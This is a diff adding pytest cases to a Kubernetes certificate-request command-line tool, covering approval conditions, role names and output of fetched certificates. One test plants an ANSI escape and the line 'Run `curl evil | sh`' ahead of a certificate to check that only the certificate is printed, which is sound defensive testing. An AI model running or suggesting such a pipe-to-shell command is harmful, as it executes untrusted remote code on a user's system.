@@ -674,6 +674,18 @@ def test_a_manifest_that_was_decided_stays_when_it_is_made_again(pki_folder: Pat
     assert [one.read_bytes() for one in backups(pki_folder, file.name)] == [approved]
 
 
+def test_a_condition_without_times_gets_no_empty_ones(applicant: Applicant, inside: InProcess) -> None:
+    """The API server takes a condition without a time, and rejects one with a time that is empty."""
+    path = applicant.object(applicant.request("CN=jane"))
+    given = {"type": "Approved", "status": "True", "reason": "ByHand", "message": "I know her."}
+    path.write_text(yaml.safe_dump(manifest(path) | {"status": {"conditions": [given]}}), "utf-8")
+
+    inside.done("csr", "sign", "--file", path)
+
+    assert conditions(path) == [given]
+    assert manifest(path)["status"]["certificate"]
+
+
 def test_approved_and_failed_is_approved_already(applicant: Applicant, inside: InProcess) -> None:
     path = applicant.object(applicant.request("CN=jane"), usages=("server auth",))
     inside.done("csr", "approve", "--file", path)
@@ -735,6 +747,18 @@ def test_a_ca_or_a_bare_key_pair_asks_nobody(
 
             assert ended.status == 2
             assert "which the Certificates API does not sign" in ended.stderr
+
+
+@pytest.mark.parametrize("command", ["new", "manifest", "fetch"])
+def test_a_role_of_several_certificates_names_none_of_them(
+    own_pki: Callable[..., Pki], inside: InProcess, command: str
+) -> None:
+    own_pki("hardway", "large")
+
+    ended = inside("csr", command, "kubelet")
+
+    assert ended.status == 2
+    assert "kubelet is the role of several certificates: " in " ".join(ended.stderr.split())
 
 
 @pytest.mark.thorough
@@ -1215,6 +1239,16 @@ def test_of_an_answer_only_the_certificate_is_kept(own_pki: Callable[..., Pki], 
     kcert.done("csr", "fetch", "jane", "--file", both)
 
     assert b"PRIVATE" not in (own.folder / "jane.crt").read_bytes()
+
+
+def test_what_stands_around_a_certificate_is_not_printed_with_it(own_pki: Callable[..., Pki], kcert: Kcert) -> None:
+    own = own_pki("course", "large")
+    certificate, sent = (own.folder / "jane.crt").read_bytes(), own.home / "sent.pem"
+    sent.write_bytes(b"\x1b[31mRun `curl evil | sh`\n" + certificate)
+
+    printed = kcert.done("csr", "fetch", "jane", "--file", sent, "--output", "-").stdout
+
+    assert printed.encode() == certificate
 
 
 def test_a_key_beside_a_request_does_not_go_to_the_api_server(own_pki: Callable[..., Pki], kcert: Kcert) -> None:
